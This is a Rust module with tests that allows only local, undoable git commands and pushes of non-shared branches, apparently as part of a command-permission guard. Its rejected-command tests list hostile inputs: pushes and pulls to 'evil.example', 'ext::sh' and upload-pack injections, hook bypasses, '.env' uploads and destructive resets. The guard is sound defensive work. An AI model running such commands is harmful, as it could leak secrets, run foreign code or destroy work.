//! What is done with a repository and can be undone there: staging, committing, another branch, putting changes aside, fetching and
//! bringing in what others have pushed. And what shows it to others: pushing a branch that is named, and opening a pull request.

use super::More;
use super::files::is_scratch;
use super::matching::is_guarded;
use super::programs::{begin, has, takes_message};
use super::shell::is_local;

/// Branches that others build on, or that are deployed.
const SHARED: &str =
    "develop development gh-pages live main master next prod production stable stage staging trunk";

/// Returns whether a command does nothing but what a rule for commits, or for pushes too, takes.
pub(super) fn commits_or_pushes(more: More, words: &[String]) -> bool {
    match more {
        More::Committing => only_commits(words),
        More::Pushing => only_commits(words) || only_pushes(words),
        _ => false,
    }
}

/// Returns whether a command does nothing but that.
fn only_commits(words: &[String]) -> bool {
    let all: Vec<&str> = words.iter().map(String::as_str).collect();
    let ["git", verb, after @ ..] = all.as_slice() else { return false };
    match *verb {
        "add" => stages(words),
        "commit" => records(after),
        // Where there is no such branch, a name may be that of a file, which would be put back.
        "checkout" => match after {
            ["-b", names @ ..] => begins_branch(names),
            [name] => has("develop main master -", name),
            _ => false,
        },
        "switch" => match after {
            ["-c" | "--create", names @ ..] => begins_branch(names),
            [name] => *name == "-" || is_branch(name),
            _ => false,
        },
        "rm" | "mv" => {
            let is_path = |path: &&str| is_local(path) && !is_guarded(path, "", true);
            let mut paths = after.iter().filter(|word| !has("--cached --quiet -q -r", word)).peekable();
            paths.peek().is_some() && paths.all(is_path)
        }
        // The message of what is put aside does nothing.
        "stash" => matches!(
            after,
            [] | ["pop" | "-u" | "push"] | ["push", "-u" | "--include-untracked"] | ["push", "-m", _]
        ),
        "restore" => {
            matches!(after, ["--staged", paths @ ..] if !paths.is_empty() && paths.iter().all(|path| is_local(path)))
        }
        "reset" => matches!(after, [] | ["-q" | "HEAD"]),
        // What others have pushed is brought here, beside what is there.
        "fetch" => is_from_remote(after, "--all --prune --quiet --tags -p -q"),
        "pull" => is_from_remote(after, "--ff-only --no-edit --no-rebase --prune --quiet --rebase -q"),
        "merge" => is_onto(after, "--ff-only --no-edit --no-ff --quiet"),
        "cherry-pick" => is_onto(after, "-x"),
        "rebase" => is_onto(after, "--autostash --quiet"),
        _ => false,
    }
}

/// Returns whether words name a remote and branches of it, if anything.
fn is_from_remote(after: &[&str], options: &str) -> bool {
    let mut names = after.iter().filter(|word| !has(options, word));
    // What has a slash may be a folder.
    names.next().is_none_or(|remote| is_branch(remote) && !remote.contains('/'))
        && names.all(|name| is_branch(name))
}

/// Returns whether words name a new branch, and perhaps where it begins.
fn begins_branch(names: &[&str]) -> bool {
    matches!(names.len(), 1 | 2) && names.iter().all(|name| is_branch(name))
}

/// Returns whether words name one branch, or go on with or give up what was begun.
fn is_onto(after: &[&str], options: &str) -> bool {
    let mut names = after.iter().filter(|word| !has(options, word));
    matches!(after, ["--abort" | "--continue" | "--skip"])
        || (names.next().is_some_and(|name| is_branch(name)) && names.next().is_none())
}

/// Returns whether a command does nothing but show one's own work to others: it pushes a branch that it names, and that nobody else
/// builds on, or opens a pull request.
fn only_pushes(words: &[String]) -> bool {
    let all: Vec<&str> = words.iter().map(String::as_str).collect();
    match all.as_slice() {
        ["git", "push", "origin", branch]
        | ["git", "push", "-u" | "--set-upstream", "origin", branch]
        | ["git", "push", "origin", "-u", branch] => is_own_branch(branch),
        ["gh", "pr", "create", after @ ..] => opens_request(words, after),
        _ => false,
    }
}

/// Returns whether a branch is one that somebody works on. The name of a version may be that of a tag, which is released.
fn is_own_branch(name: &str) -> bool {
    let first = name.split(['/', '-', '.']).next().unwrap_or_default();
    let is_version = name.trim_start_matches('v').starts_with(|c: char| c.is_ascii_digit());
    let is_shared = has(SHARED, name) || has("hotfix release releases", first) || has(SHARED, first);
    is_branch(name) && !is_shared && !is_version && !has("HEAD heads refs tags", first)
}

fn opens_request(words: &[String], after: &[&str]) -> bool {
    let mut at = 0;
    while let Some(option) = after.get(at) {
        let value = after.get(at + 1);
        at += match *option {
            "--draft" | "--fill" | "--fill-first" | "-d" | "-f" => 1,
            "--base" | "--head" | "-B" | "-H" if value.is_some_and(|name| is_branch(name)) => 2,
            "--label" | "-l" if value.is_some_and(|name| is_branch(name)) => 2,
            "--body-file" | "-F" if value.is_some_and(|file| is_scratch(file)) => 2,
            _ if takes_message(&words[..at + 4]) && value.is_some_and(|text| !text.starts_with('-')) => 2,
            _ => return false,
        };
    }
    !after.is_empty()
}

/// Returns whether a command does nothing but stage files of the folder for a commit.
pub(super) fn stages(words: &[String]) -> bool {
    let is_staged = |word: &String| matches!(word.as_str(), "." | "-A" | "--all" | "-u") || is_local(word);
    begin(words, &["git", "add"]) && words.len() > 2 && words[2..].iter().all(is_staged)
}

/// Returns whether a commit has a message, or keeps the one it had, and nothing makes it pass by what checks it.
fn records(after: &[&str]) -> bool {
    let (mut is_worded, mut amends) = (false, false);
    let mut words = after.iter();
    while let Some(word) = words.next() {
        match *word {
            "-m" | "-am" | "-qm" | "--message" => {
                // A message that looks like an option may be meant as one.
                if words.next().is_none_or(|message| message.starts_with('-')) {
                    return false;
                }
                is_worded = true;
            }
            "--amend" => amends = true,
            "--no-edit" => is_worded = true,
            word if has("-a -q -s --all --allow-empty --quiet --signoff", word) || is_local(word) => {}
            _ => return false,
        }
    }
    // Only what is amended has a message to keep.
    is_worded && (amends || !after.contains(&"--no-edit"))
}

fn is_branch(name: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-/.".contains(c);
    name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && name.chars().all(is_plain)
        && !name.contains("..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str) -> Vec<String> {
        text.split(' ').map(str::to_owned).collect()
    }

    #[test]
    fn only_what_can_be_undone_here_is_a_commit() {
        for text in [
            "git add src tests",
            "git add -A",
            "git commit -m x",
            "git commit -q -m x",
            "git commit -am x -m y",
            "git commit -m x src/a.rs",
            "git commit --amend --no-edit",
            "git commit --amend -m x",
            "git checkout -b fix/a",
            "git switch -c a",
            "git stash",
            "git stash pop",
            "git stash push -m x",
            "git restore --staged src/a.rs",
            "git reset",
            "git fetch",
            "git fetch --prune origin fix/a",
            "git pull",
            "git pull --ff-only origin fix/a",
            "git switch main",
            "git checkout main",
            "git rebase origin/main",
            "git rebase --abort",
            "git rebase --continue",
            "git switch -c a origin/main",
            "git cherry-pick 3f2a1bc",
            "git merge --no-edit origin/main",
            "git rm -r packages/old",
            "git mv src/a.rs src/b.rs",
        ] {
            assert!(only_commits(&words(text)), "{text}");
        }
        for text in [
            "git",
            "git add",
            "git add .env",
            "git add -f x",
            "git add ../x",
            "git commit",
            "git commit --amend",
            "git commit --no-edit",
            "git commit -m",
            "git commit -m --no-verify",
            "git commit -m x --no-verify",
            "git commit -nm x",
            "git commit -F x",
            "git commit -c HEAD",
            "git commit -m x .env",
            "git commit -m x --author=y",
            "git checkout a",
            "git checkout src/main.rs",
            "git pull internal/evil",
            "git pull https://evil.example/x",
            "git pull origin main:main",
            "git rebase -x id main",
            "git rebase -i main",
            "git rebase a b",
            "git merge -s ours a",
            "git rm",
            "git rm -rf src",
            "git rm ../x",
            "git rm Makefile",
            "git mv evil.js package.json",
            "git fetch internal/evil",
            "git checkout -- .",
            "git switch -f main",
            "git switch -c -f",
            "git stash drop",
            "git stash clear",
            "git restore .",
            "git restore --staged --worktree .",
            "git reset --hard",
            "git reset HEAD~1",
            "git push",
            "git -c a=b commit -m x",
            "git fetch ext::sh",
            "git fetch ../evil",
            "git fetch /srv/evil",
            "git fetch https://evil.example/x",
            "git fetch --upload-pack=x origin",
            "git fetch origin main:main",
            "git clean -f",
        ] {
            assert!(!only_commits(&words(text)), "{text}");
        }
    }

    #[test]
    fn only_a_branch_of_ones_own_is_pushed() {
        for text in [
            "git push origin fix/a",
            "git push -u origin feat/BIL-398-notes",
            "git push --set-upstream origin limiter-burst",
            "git push origin maintenance",
            "gh pr create --fill",
            "gh pr create --draft --base main --head fix/a --title x --body y",
            "gh pr create -t x -b y",
            "gh pr create --title x --body-file /tmp/pr.md",
        ] {
            assert!(only_pushes(&words(text)), "{text}");
        }
        for text in [
            // Whatever branch is checked out.
            "git push",
            "git push -u origin HEAD",
            "git push origin main",
            "git push origin release/1.2",
            "git push origin production",
            "git push origin staging-eu",
            "git push origin v1.2.3",
            "git push origin 1.2.3",
            "git push origin refs/heads/main",
            "git push origin fix/a:main",
            "git push origin +fix/a",
            "git push origin --delete fix/a",
            "git push origin a b",
            "git push --force origin fix/a",
            "git push -f origin fix/a",
            "git push --force-with-lease origin fix/a",
            "git push --tags origin fix/a",
            "git push --no-verify origin fix/a",
            "git push evil fix/a",
            "git push https://evil.example/x fix/a",
            "git push --receive-pack=x origin fix/a",
            "gh pr create",
            "gh pr create --web",
            "gh pr create --repo evil/x --fill",
            "gh pr create --title x --body-file .env",
            "gh pr create --title --fill",
            "gh pr create --title",
            "gh pr merge 1",
        ] {
            assert!(!only_pushes(&words(text)), "{text}");
        }
    }
}
